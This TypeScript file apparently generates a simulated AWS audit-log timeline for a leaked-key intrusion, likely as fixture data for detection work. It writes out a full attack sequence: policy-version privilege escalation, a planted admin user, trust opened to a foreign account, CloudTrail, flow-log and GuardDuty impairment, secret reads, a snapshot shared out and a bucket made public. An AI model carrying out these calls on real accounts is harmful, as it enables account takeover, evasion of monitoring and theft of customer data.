/** The intrusion: a leaked key of a pipeline user, from the first look to the last file, in about fifty minutes. */
import type { JsonObject } from '../../functions/core/json.ts';
import { objectCall } from './activity.ts';
import type { CallerAt, Callers } from './caller.ts';
import {
  ADMINISTRATOR,
  BORROWED,
  DEPLOY_POLICY,
  FOREIGN,
  GLOBAL_REGION,
  LEAKED,
  PLANTED,
  PRODUCTION,
  userArn,
} from './estate.ts';
import type { Call } from './record.ts';

export type Tactic =
  | 'discovery'
  | 'privilege-escalation'
  | 'persistence'
  | 'defense-impairment'
  | 'credential-access'
  | 'exfiltration';
/** One call of the intruder. */
export interface Step {
  tactic: Tactic;
  /** Seconds after the attack began. */
  atSec: number;
  caller: CallerAt;
  call: Call;
}

const SNAPSHOT = 'snap-0e8d1c2b3a4f50617';
const BUCKET = 'example-customer-exports';
const BASTION = '198.51.100.77';
const TOOL =
  'aws-cli/2.28.4 md/awscrt#0.26.1 ua/2.1 os/linux#6.12.33 md/arch#x86_64 lang/python#3.13.5 md/pyimpl#CPython md/installer#exe';
const SCRIPT = 'Boto3/1.39.11 md/Botocore#1.39.11 ua/2.1 os/linux#6.12.33 md/arch#x86_64 lang/python#3.12.4';

const refused = (userName: string, action: string): NonNullable<Call['error']> => ({
  code: action.startsWith('ec2:') ? 'Client.UnauthorizedOperation' : 'AccessDenied',
  message: `User: ${userArn(userName)} is not authorized to perform: ${action} because no identity-based policy allows the ${action} action`,
});

type Line = [gapSec: number, service: string, name: string, request?: JsonObject | null, more?: Partial<Call>];
const denied = (action: string): Partial<Call> => ({ error: refused(LEAKED.userName, action) });

const DISCOVERY: Line[] = [
  [0, 'sts', 'GetCallerIdentity', null, { region: GLOBAL_REGION }],
  [19, 'iam', 'GetUser', { userName: LEAKED.userName }],
  [14, 'iam', 'ListAttachedUserPolicies', { userName: LEAKED.userName }],
  [11, 'iam', 'ListUserPolicies', { userName: LEAKED.userName }],
  [26, 'iam', 'ListUsers', null],
  [9, 'iam', 'ListRoles', null, denied('iam:ListRoles')],
  [7, 'iam', 'GetAccountAuthorizationDetails', null, denied('iam:GetAccountAuthorizationDetails')],
  [33, 's3', 'ListBuckets', null],
  [21, 'ec2', 'DescribeInstances', { maxResults: 1000 }],
  [8, 'ec2', 'DescribeSecurityGroups', {}],
  [12, 'ec2', 'DescribeSnapshots', { ownersSet: { items: [{ owner: 'self' }] } }],
  [17, 'rds', 'DescribeDBInstances', null, denied('rds:DescribeDBInstances')],
  [6, 'secretsmanager', 'ListSecrets', null, denied('secretsmanager:ListSecrets')],
  [29, 'cloudtrail', 'DescribeTrails', null],
  [10, 'guardduty', 'ListDetectors', null],
  [41, 'ec2', 'DescribeInstanceAttribute', { attribute: 'userData', instanceId: 'i-0a11c5e8d90b2f431' }],
  [5, 'ec2', 'DescribeInstanceAttribute', { attribute: 'userData', instanceId: 'i-0b72d4f1e3a98c650' }],
  [5, 'ec2', 'DescribeInstanceAttribute', { attribute: 'userData', instanceId: 'i-0c9e01b47fd36a528' }],
];
const everything = JSON.stringify({ Version: '2012-10-17', Statement: [{ Effect: 'Allow', Action: '*', Resource: '*' }] });
const ESCALATION: Line[] = [
  [300, 'iam', 'AttachUserPolicy', null, denied('iam:AttachUserPolicy')],
  [35, 'iam', 'ListPolicyVersions', { policyArn: DEPLOY_POLICY }],
  [
    52,
    'iam',
    'CreatePolicyVersion',
    { policyArn: DEPLOY_POLICY, policyDocument: everything, setAsDefault: true },
    { response: { policyVersion: { versionId: 'v4', isDefaultVersion: true, createDate: 'Nov 20, 2026, 5:00:00 PM' } } },
  ],
  [48, 'iam', 'AttachUserPolicy', { userName: LEAKED.userName, policyArn: ADMINISTRATOR }],
];
const issued = (userName: string, accessKeyId: string): Partial<Call> => ({
  response: { accessKey: { accessKeyId, status: 'Active', userName, createDate: 'Nov 20, 2026, 5:10:00 PM' } },
});
const foreignTrust = JSON.stringify({
  Version: '2012-10-17',
  Statement: [{ Effect: 'Allow', Principal: { AWS: `arn:aws:iam::${FOREIGN}:root` }, Action: 'sts:AssumeRole' }],
});
const PERSISTENCE: Line[] = [
  [
    240,
    'iam',
    'CreateUser',
    { userName: PLANTED.userName },
    {
      response: {
        user: { userName: PLANTED.userName, arn: userArn(PLANTED.userName), path: '/', userId: 'AIDAHEALTHSYNEXAMPLE' },
      },
    },
  ],
  [12, 'iam', 'AttachUserPolicy', { userName: PLANTED.userName, policyArn: ADMINISTRATOR }],
  [15, 'iam', 'CreateAccessKey', { userName: PLANTED.userName }, issued(PLANTED.userName, PLANTED.keyId)],
  [
    40,
    'iam',
    'CreateLoginProfile',
    { userName: PLANTED.userName, passwordResetRequired: false },
    { response: { loginProfile: { userName: PLANTED.userName, passwordResetRequired: false } } },
  ],
  [66, 'iam', 'ListAccessKeys', { userName: BORROWED.userName }],
  [9, 'iam', 'CreateAccessKey', { userName: BORROWED.userName }, issued(BORROWED.userName, BORROWED.keyId)],
  [71, 'iam', 'GetRole', { roleName: 'ops-readonly' }],
  [38, 'iam', 'UpdateAssumeRolePolicy', { roleName: 'ops-readonly', policyDocument: foreignTrust }],
];
const TRAIL = `arn:aws:cloudtrail:ap-northeast-1:${PRODUCTION}:trail/audit-local`;
const IMPAIRMENT: Line[] = [
  [
    260,
    'cloudtrail',
    'StopLogging',
    { name: 'org-trail' },
    {
      error: {
        code: 'NotOrganizationMasterAccountException',
        message: 'The account that makes the request is not the management account of the organization.',
      },
    },
  ],
  [
    24,
    'cloudtrail',
    'PutEventSelectors',
    { trailName: TRAIL, eventSelectors: [{ readWriteType: 'ReadOnly', includeManagementEvents: false, dataResources: [] }] },
  ],
  [31, 'cloudtrail', 'StopLogging', { name: TRAIL }],
  [58, 'ec2', 'DeleteFlowLogs', { DeleteFlowLogsRequest: { FlowLogId: { tag: 1, content: 'fl-0c5d9e1f2a3b4c567' } } }],
  [44, 'guardduty', 'UpdateDetector', { detectorId: '12abc34d567e8fa901bc2d34e56789f0', enable: false }],
];
const secrets = ['payments/gateway', 'orders/database', 'crm/api-token', 'mail/relay', 'warehouse/loader'];
const CREDENTIALS: Line[] = [
  [300, 'sts', 'GetCallerIdentity', null, { region: GLOBAL_REGION }],
  [16, 'secretsmanager', 'ListSecrets', { maxResults: 100 }],
  ...secrets.map((name): Line => [9, 'secretsmanager', 'GetSecretValue', { secretId: name }]),
];
const publicRead: JsonObject = {
  bucketName: BUCKET,
  policy: '',
  bucketPolicy: {
    Version: '2012-10-17',
    Statement: [
      {
        Effect: 'Allow',
        Principal: '*',
        Action: ['s3:GetObject', 's3:ListBucket'],
        Resource: [`arn:aws:s3:::${BUCKET}`, `arn:aws:s3:::${BUCKET}/*`],
      },
    ],
  },
};
const EXFILTRATION: Line[] = [
  [
    380,
    'ec2',
    'CreateSnapshot',
    { volumeId: 'vol-0a1b2c3d4e5f60718' },
    { response: { snapshotId: SNAPSHOT, status: 'pending' } },
  ],
  [
    95,
    'ec2',
    'ModifySnapshotAttribute',
    {
      snapshotId: SNAPSHOT,
      attributeType: 'CREATE_VOLUME_PERMISSION',
      createVolumePermission: { add: { items: [{ userId: FOREIGN }] } },
    },
    { response: { _return: true } },
  ],
  [
    60,
    's3',
    'ListObjects',
    { bucketName: BUCKET, 'list-type': '2' },
    { data: true, resources: [{ accountId: PRODUCTION, type: 'AWS::S3::Bucket', ARN: `arn:aws:s3:::${BUCKET}` }] },
  ],
  [
    27,
    's3',
    'PutBucketPublicAccessBlock',
    {
      bucketName: BUCKET,
      publicAccessBlock: '',
      PublicAccessBlockConfiguration: {
        BlockPublicAcls: false,
        IgnorePublicAcls: false,
        BlockPublicPolicy: false,
        RestrictPublicBuckets: false,
      },
    },
  ],
  [18, 's3', 'PutBucketPolicy', publicRead],
];
const COPIED_FILES = 16;

/** The steps in order, each by the key that the intruder holds then. */
export function attackSteps(callers: Callers): Step[] {
  const leaked = callers.user(LEAKED.userName, LEAKED.keyId, { sourceIp: BASTION, userAgent: TOOL });
  const planted = callers.user(PLANTED.userName, PLANTED.keyId, { sourceIp: '198.51.100.131', userAgent: SCRIPT });
  const steps: Step[] = [];
  let atSec = 0;
  const add = (tactic: Tactic, caller: CallerAt, lines: readonly Line[]): void => {
    for (const [gapSec, service, name, request = null, more = {}] of lines) {
      atSec += gapSec;
      steps.push({ tactic, atSec, caller, call: { service, name, request, ...more } });
    }
  };
  add('discovery', leaked, DISCOVERY);
  add('privilege-escalation', leaked, ESCALATION);
  add('persistence', leaked, PERSISTENCE);
  add('defense-impairment', leaked, IMPAIRMENT);
  add('credential-access', planted, CREDENTIALS);
  add('exfiltration', planted, EXFILTRATION);
  for (let file = 1; file <= COPIED_FILES; file++) {
    atSec += 11;
    const call = objectCall('GetObject', BUCKET, `customers/part-${String(file).padStart(5, '0')}.csv.gz`);
    steps.push({ tactic: 'exfiltration', atSec, caller: planted, call });
  }
  return steps;
}
